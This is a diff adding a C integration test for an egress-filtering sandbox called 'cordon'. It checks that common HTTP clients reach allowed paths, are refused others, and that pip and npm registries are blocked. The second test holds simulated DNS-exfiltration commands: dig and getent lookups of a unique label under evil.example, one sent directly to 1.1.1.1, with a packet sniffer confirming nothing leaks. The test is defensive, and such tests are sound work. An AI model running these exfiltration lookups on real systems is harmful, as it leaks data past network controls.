@@ -1,0 +1,577 @@
+/*
+ * Issue 19's real clients, each inside a real `cordon run` job with
+ * nothing set but what the launcher sets: curl, wget, python3's urllib
+ * and requests, git clone over https, node 20's fetch() and https.get, a
+ * Go program with a Transport of its own (Proxy nil; built here, no
+ * network), and a raw-socket C client. Each reaches an allowed upstream
+ * on 127.0.0.1 (TLS terminated by the job's CA) and is refused a path no
+ * rule allows, with a decision line of the proxy's each time. pip and
+ * npm are refused their registries and say so; the job's denials
+ * endpoint names them. An unlisted name is NXDOMAIN to dig and getent,
+ * and no packet anywhere on the host carries it. A client whose binary
+ * is missing is skipped (the test then exits 77, the reason printed).
+ */
+#include "harness.h"
+#include "upstream.h"
+
+#include <arpa/inet.h>
+#include <check.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define JOBS CORDON_SOURCE_DIR "/tests/integration/jobs/clients"
+
+static struct stack st;
+static struct upstream *plain;
+static pid_t server = -1;
+static unsigned tls_port;
+static json_t *last; /* the last run's result */
+
+/* The clients, by the binary each needs; missing[i] when it is not
+ * there (decided in main, before the tests fork). */
+static const struct {
+	const char *name, *bin;
+} clients[] = {
+	{ "curl", "/usr/bin/curl" },
+	{ "wget", "/usr/bin/wget" },
+	{ "urllib", "/usr/bin/python3" },
+	{ "requests", "/usr/lib/python3/dist-packages/requests/__init__.py" },
+	{ "git", "/usr/bin/git" },
+	{ "node-fetch", "/usr/bin/node" },
+	{ "node-get", "/usr/bin/node" },
+	{ "go", "/usr/bin/go" },
+	{ "raw", "/usr/bin/cc" },
+	{ "pip", "/usr/lib/python3/dist-packages/pip/__init__.py" },
+	{ "npm", "/usr/bin/npm" },
+	{ "dig", "/usr/bin/dig" },
+};
+#define NCLIENTS (sizeof(clients) / sizeof(clients[0]))
+static bool missing[NCLIENTS];
+
+static bool
+have(const char *name)
+{
+	for (size_t i = 0; i < NCLIENTS; i++)
+		if (strcmp(clients[i].name, name) == 0)
+			return !missing[i];
+	return false;
+}
+
+/* The upstream's files: ok/<client>.txt for each, and a bare git
+ * repository (git's "dumb" protocol: plain files). */
+static void
+make_files(const char *dir)
+{
+	char cmd[4096], path[600];
+
+	snprintf(path, sizeof(path), "%s/srv/ok", dir);
+	ck_assert_int_eq(mkdir(path, 0755) == 0 || errno == EEXIST, 1);
+	for (size_t i = 0; i < NCLIENTS; i++) {
+		char text[64];
+		snprintf(path, sizeof(path), "%s/srv/ok/%s.txt", dir,
+		    clients[i].name);
+		snprintf(text, sizeof(text), "hello %s\n", clients[i].name);
+		harness_write_file(path, text);
+		chmod(path, 0644);
+	}
+	snprintf(cmd, sizeof(cmd),
+	    "set -e; cd '%s'; git init -q -b main work; cd work; "
+	    "printf 'cloned through cordon\\n' > README.md; "
+	    "git -c user.name=t -c user.email=t@t add README.md; "
+	    "git -c user.name=t -c user.email=t@t commit -q -m one; cd ..; "
+	    "git clone -q --bare work srv/repo.git; "
+	    "git -C srv/repo.git update-server-info",
+	    dir);
+	ck_assert_msg(system(cmd) == 0, "the test repository: %s", cmd);
+}
+
+/* An HTTPS static server on 127.0.0.1 over srv/, its port read back. */
+static void
+start_server(const char *dir, const char *cert, const char *key)
+{
+	static const char script[] =
+	    "import functools, http.server, ssl, sys\n"
+	    "h = functools.partial(http.server.SimpleHTTPRequestHandler,"
+	    " directory=sys.argv[1])\n"
+	    "s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), h)\n"
+	    "c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n"
+	    "c.load_cert_chain(sys.argv[2], sys.argv[3])\n"
+	    "s.socket = c.wrap_socket(s.socket, server_side=True)\n"
+	    "print(s.server_address[1], flush=True)\n"
+	    "s.serve_forever()\n";
+	char root[600], buf[32] = { 0 };
+	int p[2];
+
+	snprintf(root, sizeof(root), "%s/srv", dir);
+	ck_assert_int_eq(pipe(p), 0);
+	server = fork();
+	ck_assert_int_ge(server, 0);
+	if (server == 0) {
+		int null = open("/dev/null", O_WRONLY);
+		dup2(p[1], STDOUT_FILENO);
+		if (null >= 0)
+			dup2(null, STDERR_FILENO);
+		execl("/usr/bin/python3", "python3", "-c", script, root, cert,
+		    key, (char *)NULL);
+		_exit(127);
+	}
+	close(p[1]);
+	ck_assert_int_gt(read(p[0], buf, sizeof(buf) - 1), 0);
+	close(p[0]);
+	tls_port = (unsigned)strtoul(buf, NULL, 10);
+	ck_assert_uint_gt(tls_port, 0);
+}
+
+static void
+setup(void)
+{
+	const char *hosts[] = { "tls.test", NULL };
+	const char *dir = harness_tmpdir();
+	char cert[400], key[400], ca[400], path[600];
+	struct stack_options o = { .uid_base = 537000,
+		.hosts = "127.0.0.1 tls.test api.test\n",
+		.upstream_ca_file = ca };
+
+	signal(SIGPIPE, SIG_IGN);
+	ck_assert_int_eq(test_ca_make(dir, hosts), 0);
+	snprintf(cert, sizeof(cert), "%s/tls.test.pem", dir);
+	snprintf(key, sizeof(key), "%s/tls.test.key", dir);
+	snprintf(ca, sizeof(ca), "%s/ca.pem", dir);
+	snprintf(path, sizeof(path), "%s/srv", dir);
+	ck_assert_int_eq(mkdir(path, 0755), 0);
+	make_files(dir);
+	start_server(dir, cert, key);
+	plain = upstream_start(NULL, NULL);
+	ck_assert_ptr_nonnull(plain);
+	stack_start(&st, &o);
+	snprintf(path, sizeof(path), "%s/repo", st.inputs);
+	ck_assert_int_eq(mkdir(path, 0755), 0);
+
+	json_t *m = json_pack("{s:s, s:[s], s:[{s:s, s:i, s:s, s:[s, s], "
+			      "s:[s, s], s:s, s:[s]}, {s:s, s:i, s:[s], "
+			      "s:[s], s:s, s:[s]}], s:{s:i, s:i, s:i}}",
+	    "name", "clients-job", "command", "/bin/true", "egress", "host",
+	    "tls.test", "port", (int)tls_port, "tls", "terminate", "methods",
+	    "GET", "HEAD", "paths", "/ok/", "/repo.git/", "reason", "the files",
+	    "allow_cidrs", "127.0.0.0/8", "host", "api.test", "port",
+	    upstream_port(plain), "methods", "GET", "paths", "/ok/", "reason",
+	    "plain", "allow_cidrs", "127.0.0.0/8", "limits", "wall_seconds",
+	    120, "memory_mb", 1024, "pids", 256);
+	json_decref(harness_expect(&st.broker, 200, "PUT",
+	    "/v1/manifests/clients-job", st.admin, NULL, m));
+}
+
+static void
+teardown(void)
+{
+	if (server > 0) {
+		kill(server, SIGTERM);
+		waitpid(server, NULL, 0);
+		server = -1;
+	}
+	json_decref(last);
+	last = NULL;
+	upstream_stop(plain);
+	stack_stop(&st);
+}
+
+/* Copies a file of jobs/clients into the job's input, mode 0755. */
+static void
+copy_in(const char *from, const char *name)
+{
+	char to[600], cmd[1500];
+
+	snprintf(to, sizeof(to), "%s/repo/%s", st.inputs, name);
+	snprintf(cmd, sizeof(cmd), "cp '%s' '%s' && chmod 0755 '%s'", from, to,
+	    to);
+	ck_assert_msg(system(cmd) == 0, "%s", cmd);
+}
+
+/* Builds the test's Go program into the job's input, with its caches
+ * in the test's directory and no network. */
+static void
+build_go(void)
+{
+	const char *dir = harness_tmpdir();
+	char cache[400], gopath[400], out[600], o[8192], e[8192];
+
+	snprintf(cache, sizeof(cache), "GOCACHE=%s/cache", dir);
+	snprintf(gopath, sizeof(gopath), "GOPATH=%s/path", dir);
+	snprintf(out, sizeof(out), "%s/repo/gofetch", st.inputs);
+	char *argv[] = { "/usr/bin/env", cache, gopath, "GOFLAGS=-mod=mod",
+		"GOPROXY=off", "GO111MODULE=auto", "CGO_ENABLED=0",
+		"/usr/bin/go", "build", "-o", out, JOBS "/fetch.go", NULL };
+	int status = harness_run_for(argv, 120000, o, sizeof(o), e, sizeof(e));
+	ck_assert_msg(status == 0, "go build: %d\n%s%s", status, o, e);
+}
+
+static void
+build_raw(void)
+{
+	char out[600], o[4096], e[4096];
+
+	snprintf(out, sizeof(out), "%s/repo/raw", st.inputs);
+	char *argv[] = { "/usr/bin/cc", "-o", out, JOBS "/raw.c", NULL };
+	ck_assert_msg(harness_run(argv, o, sizeof(o), e, sizeof(e)) == 0,
+	    "cc: %s", e);
+}
+
+/* Runs `cordon run --json` of clients-job with script under /bin/sh -c
+ * (in the input's directory): the job's stdout (free it). */
+static char *
+run_stdout(const char *script)
+{
+	static char out[1 << 20], err[1 << 16];
+	char input[400], full[16384];
+	char *argv[] = { (char *)harness_bin("cordon"), "run", "--json",
+		"--config", st.launcher_cfg, "--manifest", "clients-job",
+		"--input", input, "--", "/bin/sh", "-c", full, NULL };
+
+	snprintf(input, sizeof(input), "%s/repo:repo", st.inputs);
+	snprintf(full, sizeof(full), "cd repo\n%s", script);
+	int status =
+	    harness_run_for(argv, 110000, out, sizeof(out), err, sizeof(err));
+	json_t *j = json_loads(out, 0, NULL);
+	ck_assert_msg(j != NULL, "no JSON from cordon run (status %d): %s\n%s",
+	    status, out, err);
+	const char *text = json_string_value(
+	    json_object_get(json_object_get(json_object_get(j, "output"),
+				"stdout"),
+		"text"));
+	char *copy = strdup(text != NULL ? text : "");
+	if (getenv("CLIENTS_DEBUG") != NULL)
+		fprintf(stderr, "%s\n--- stderr ---\n%s\n", copy, err);
+	ck_assert_msg(status == 0, "cordon run: %d\n%s\n%s", status, copy, err);
+	json_decref(last);
+	last = j;
+	return copy;
+}
+
+/* Whether the proxy logged a line with decision (and reason, kind when
+ * not NULL) for host whose path starts with path (NULL: any). */
+static bool
+logged(const char *host, const char *path, const char *decision,
+    const char *reason)
+{
+	json_t *lines = daemon_log_lines(&st.proxy), *l;
+	bool seen = false;
+	size_t i;
+
+	json_array_foreach(lines, i, l)
+	{
+		const char *h = json_string_value(json_object_get(l, "host"));
+		const char *p = json_string_value(json_object_get(l, "path"));
+		const char *d =
+		    json_string_value(json_object_get(l, "decision"));
+		const char *r = json_string_value(json_object_get(l, "reason"));
+		seen = seen ||
+		    (h != NULL && d != NULL && strcmp(h, host) == 0 &&
+			strcmp(d, decision) == 0 &&
+			(path == NULL ||
+			    (p != NULL &&
+				strncmp(p, path, strlen(path)) == 0)) &&
+			(reason == NULL ||
+			    (r != NULL && strcmp(r, reason) == 0)));
+	}
+	json_decref(lines);
+	return seen;
+}
+
+/* Asserts out has line, for client (skipped when missing). */
+#define EXPECT(client, ...)                                                    \
+	do {                                                                   \
+		char want_[512];                                               \
+		snprintf(want_, sizeof(want_), __VA_ARGS__);                   \
+		if (have(client))                                              \
+			ck_assert_msg(strstr(out, want_) != NULL,              \
+			    "%s: no \"%s\" in:\n%s", client, want_, out);      \
+	} while (0)
+
+/* The allow and the deny of client, in the proxy's log. */
+static void
+expect_lines(const char *client, const char *host, const char *ok,
+    const char *no)
+{
+	if (!have(client))
+		return;
+	ck_assert_msg(logged(host, ok, "allow", NULL), "%s: no allow of %s",
+	    client, ok);
+	ck_assert_msg(logged(host, no, "deny", "path"), "%s: no deny of %s",
+	    client, no);
+}
+
+START_TEST(every_client_reaches_the_allowed_and_is_refused_the_rest)
+{
+	static char script[12000];
+	char u[128];
+	unsigned ap = upstream_port(plain);
+
+	if (have("go"))
+		build_go();
+	if (have("raw"))
+		build_raw();
+	copy_in(JOBS "/node.js", "node.js");
+	snprintf(u, sizeof(u), "https://tls.test:%u", tls_port);
+	snprintf(script, sizeof(script),
+	    "U=%s\n"
+	    "if [ -x /usr/bin/curl ]; then\n"
+	    " curl -s $U/ok/curl.txt\n"
+	    " curl -s -o /dev/null -w 'curl-deny %%{http_code}\\n' "
+	    "$U/no/curl.txt\n"
+	    "fi\n"
+	    "if [ -x /usr/bin/wget ]; then\n"
+	    " wget -qO- $U/ok/wget.txt\n"
+	    " wget -q -O /dev/null $U/no/wget.txt; echo wget-deny=$?\n"
+	    "fi\n"
+	    "/usr/bin/python3 -c \"import urllib.request as u, urllib.error as "
+	    "e\n"
+	    "print(u.urlopen('$U/ok/urllib.txt').read().decode().strip())\n"
+	    "try: u.urlopen('$U/no/urllib.txt')\n"
+	    "except e.HTTPError as x: print('urllib-deny', x.code, "
+	    "x.headers['X-Cordon-Deny'])\"\n"
+	    "/usr/bin/python3 -c \"import requests\n"
+	    "print(requests.get('$U/ok/requests.txt').text.strip())\n"
+	    "r=requests.get('$U/no/requests.txt')\n"
+	    "print('requests-deny', r.status_code, "
+	    "r.headers.get('X-Cordon-Deny'))\"\n"
+	    "if [ -x /usr/bin/git ]; then\n"
+	    " git clone -q $U/repo.git /tmp/c1 && cat /tmp/c1/README.md\n"
+	    " git clone -q $U/no/repo.git /tmp/c2 2>/tmp/git.err; "
+	    "echo git-deny=$?; grep -o 'error: 403' /tmp/git.err\n"
+	    "fi\n"
+	    "if [ -x /usr/bin/node ]; then\n"
+	    " /usr/bin/node node.js fetch $U/ok/node-fetch.txt "
+	    "$U/no/node-fetch.txt https://deny.test/x\n"
+	    " /usr/bin/node node.js get $U/ok/node-get.txt $U/no/node-get.txt\n"
+	    "fi\n"
+	    "[ -x ./gofetch ] && ./gofetch $U/ok/go.txt $U/no/go.txt "
+	    "https://deny.test/x\n"
+	    "[ -x ./raw ] && { ./raw api.test %u /ok/raw; ./raw api.test %u "
+	    "/no/raw; ./raw deny.test 80 /x; }\n"
+	    "exit 0\n",
+	    u, ap, ap);
+	char *out = run_stdout(script);
+
+	EXPECT("curl", "hello curl\n");
+	EXPECT("curl", "curl-deny 403\n");
+	EXPECT("wget", "hello wget\n");
+	EXPECT("wget", "wget-deny=8\n");
+	EXPECT("urllib", "hello urllib\n");
+	EXPECT("urllib", "urllib-deny 403 path\n");
+	EXPECT("requests", "hello requests\n");
+	EXPECT("requests", "requests-deny 403 path\n");
+	EXPECT("git", "cloned through cordon\n");
+	EXPECT("git", "git-deny=128\nerror: 403\n");
+	EXPECT("node-fetch", "node-fetch %s/ok/node-fetch.txt 200\n", u);
+	EXPECT("node-fetch", "node-fetch %s/no/node-fetch.txt 403\n", u);
+	EXPECT("node-fetch",
+	    "node-fetch https://deny.test/x error ENOTFOUND\n");
+	EXPECT("node-get", "node-get %s/ok/node-get.txt 200\n", u);
+	EXPECT("node-get", "node-get %s/no/node-get.txt 403\n", u);
+	EXPECT("go", "go %s/ok/go.txt 200 \"hello go\\n\"\n", u);
+	EXPECT("go", "go %s/no/go.txt 403 ", u);
+	EXPECT("go", "go https://deny.test/x error ");
+	EXPECT("raw", "raw api.test /ok/raw HTTP/1.1 200 OK\n");
+	EXPECT("raw", "raw api.test /no/raw HTTP/1.1 403 Forbidden\n");
+	EXPECT("raw", "raw deny.test /x resolve: ");
+	free(out);
+
+	/* A decision line for each: the allow and the refused path. */
+	static const char *const tls_clients[] = { "curl", "wget", "urllib",
+		"requests", "node-fetch", "node-get", "go" };
+	for (size_t i = 0; i < sizeof(tls_clients) / sizeof(tls_clients[0]);
+	     i++) {
+		char ok[64], no[64];
+		snprintf(ok, sizeof(ok), "/ok/%s.txt", tls_clients[i]);
+		snprintf(no, sizeof(no), "/no/%s.txt", tls_clients[i]);
+		expect_lines(tls_clients[i], "tls.test", ok, no);
+	}
+	expect_lines("git", "tls.test", "/repo.git/", "/no/repo.git/");
+	expect_lines("raw", "api.test", "/ok/raw", "/no/raw");
+	/* The refused name of the clients that resolve it themselves. */
+	if (have("node-fetch") || have("go") || have("raw"))
+		ck_assert(logged("deny.test", NULL, "deny", "no_rule"));
+}
+END_TEST
+
+/* Watches every packet the host sees (all its interfaces, a packet
+ * socket) for a name, while the job runs. */
+struct sniffer {
+	pthread_t thread;
+	int fd;
+	const char *name;
+	atomic_bool stop;
+	atomic_uint seen, packets;
+};
+
+static void *
+sniff(void *arg)
+{
+	struct sniffer *s = arg;
+	char pkt[65536];
+	size_t n = strlen(s->name);
+
+	while (!atomic_load(&s->stop)) {
+		struct pollfd p = { .fd = s->fd, .events = POLLIN };
+		if (poll(&p, 1, 100) <= 0)
+			continue;
+		ssize_t got = recv(s->fd, pkt, sizeof(pkt), MSG_DONTWAIT);
+		if (got <= 0)
+			continue;
+		atomic_fetch_add(&s->packets, 1);
+		if (memmem(pkt, (size_t)got, s->name, n) != NULL)
+			atomic_fetch_add(&s->seen, 1);
+	}
+	return NULL;
+}
+
+START_TEST(registries_are_refused_and_a_name_never_leaves)
+{
+	char name[64], script[4096];
+	struct sniffer s = { .fd = -1 };
+	/* The host's resolver ports on loopback, where free. */
+	static const char *const watch_at[] = { "127.0.0.53", "127.0.0.1" };
+	int watch[2] = { -1, -1 };
+
+	/* A label of its own: what no packet may carry. */
+	snprintf(name, sizeof(name), "exfil%dq%ld", (int)getpid(),
+	    (long)time(NULL));
+	s.name = name;
+	s.fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
+	ck_assert_msg(s.fd >= 0, "a packet socket: %s", strerror(errno));
+	ck_assert_int_eq(pthread_create(&s.thread, NULL, sniff, &s), 0);
+	for (int i = 0; i < 2; i++) {
+		struct sockaddr_in sin = { .sin_family = AF_INET,
+			.sin_port = htons(53) };
+		inet_pton(AF_INET, watch_at[i], &sin.sin_addr);
+		watch[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+		if (watch[i] >= 0 &&
+		    bind(watch[i], (struct sockaddr *)&sin, sizeof(sin)) < 0) {
+			close(watch[i]);
+			watch[i] = -1;
+		}
+	}
+
+	snprintf(script, sizeof(script),
+	    "if [ -x /usr/bin/dig ]; then\n"
+	    " dig +time=2 +tries=1 %s.evil.example | grep -o 'status: "
+	    "[A-Z]*'\n"
+	    " dig +time=2 +tries=1 @1.1.1.1 %s.evil.example >/dev/null; "
+	    "echo dig-direct=$?\n"
+	    "fi\n"
+	    "getent hosts %s.evil.example; echo getent=$?\n"
+	    "if [ -f /usr/lib/python3/dist-packages/pip/__init__.py ]; then\n"
+	    " /usr/bin/python3 -m pip install --break-system-packages "
+	    "--no-cache-dir --disable-pip-version-check --retries 1 "
+	    "--timeout 10 somepkg > /tmp/pip.out 2>&1; echo pip=$?\n"
+	    " grep -o 'Tunnel connection failed: 403 Forbidden' /tmp/pip.out "
+	    "| head -1\n"
+	    "fi\n"
+	    "if [ -x /usr/bin/npm ]; then\n"
+	    " mkdir -p /tmp/n && cd /tmp/n && npm install --no-audit --no-fund "
+	    "--fetch-retries=0 --fetch-timeout=10000 somepkg > /tmp/npm.out "
+	    "2>&1; echo npm=$?\n"
+	    " grep -o '403 Forbidden - GET [^ ]* - denied' /tmp/npm.out | "
+	    "head -1\n"
+	    "fi\n"
+	    "curl -s http://cordon.local/v1/denials > /tmp/why.json\n"
+	    "/usr/bin/python3 -c \"import json\n"
+	    "d=json.load(open('/tmp/why.json'))['denials']\n"
+	    "for h in ('pypi.org','registry.npmjs.org','%s.evil.example'):\n"
+	    " e=[x for x in d if x['host']==h]\n"
+	    " print('why',h,e[0]['reason'] if e else None,"
+	    "json.dumps(e[0]['rule'],sort_keys=True) if e else None)\"\n",
+	    name, name, name, name);
+	char *out = run_stdout(script);
+
+	atomic_store(&s.stop, true);
+	pthread_join(s.thread, NULL);
+	close(s.fd);
+	if (getenv("CLIENTS_DEBUG") != NULL)
+		fprintf(stderr, "packets seen while the job ran: %u\n",
+		    atomic_load(&s.packets));
+	EXPECT("dig", "status: NXDOMAIN\n");
+	EXPECT("dig", "dig-direct=9\n");
+	ck_assert_msg(strstr(out, "getent=2\n") != NULL, "%s", out);
+	EXPECT("pip", "pip=1\nTunnel connection failed: 403 Forbidden\n");
+	EXPECT("npm",
+	    "npm=1\n403 Forbidden - GET "
+	    "https://registry.npmjs.org/somepkg - denied\n");
+	EXPECT("pip",
+	    "why pypi.org no_rule {\"host\": \"pypi.org\", "
+	    "\"methods\": [\"GET\"], \"reason\": \"say why the job "
+	    "must reach this\"}\n");
+	EXPECT("npm",
+	    "why registry.npmjs.org no_rule {\"host\": "
+	    "\"registry.npmjs.org\", \"methods\": [\"GET\"], "
+	    "\"reason\": \"say why the job must reach this\"}\n");
+	char want[256];
+	snprintf(want, sizeof(want), "why %s.evil.example no_rule ", name);
+	ck_assert_msg(strstr(out, want) != NULL, "%s", out);
+	free(out);
+	if (have("pip"))
+		ck_assert(logged("pypi.org", NULL, "deny", "no_rule"));
+	if (have("npm"))
+		ck_assert(
+		    logged("registry.npmjs.org", NULL, "deny", "no_rule"));
+	/* Nothing carried the name out of the namespace. */
+	ck_assert_uint_gt(atomic_load(&s.packets), 0);
+	ck_assert_msg(atomic_load(&s.seen) == 0,
+	    "%u packets on the host carried %s", atomic_load(&s.seen), name);
+	for (int i = 0; i < 2; i++) {
+		if (watch[i] < 0)
+			continue;
+		struct pollfd p = { .fd = watch[i], .events = POLLIN };
+		ck_assert_msg(poll(&p, 1, 0) == 0,
+		    "a packet reached the host's %s:53", watch_at[i]);
+		close(watch[i]);
+	}
+}
+END_TEST
+
+static Suite *
+suite(void)
+{
+	Suite *s = suite_create("clients");
+	TCase *tc = tcase_create("clients");
+
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_set_timeout(tc, 180);
+	tcase_add_test(tc,
+	    every_client_reaches_the_allowed_and_is_refused_the_rest);
+	tcase_add_test(tc, registries_are_refused_and_a_name_never_leaves);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int
+main(void)
+{
+	size_t skipped = 0;
+
+	for (size_t i = 0; i < NCLIENTS; i++) {
+		missing[i] = access(clients[i].bin, F_OK) != 0;
+		if (missing[i]) {
+			printf("it_clients: skipping %s: no %s\n",
+			    clients[i].name, clients[i].bin);
+			skipped++;
+		}
+	}
+	int r = harness_main(suite());
+	return r == 0 && skipped > 0 ? 77 : r;
+}
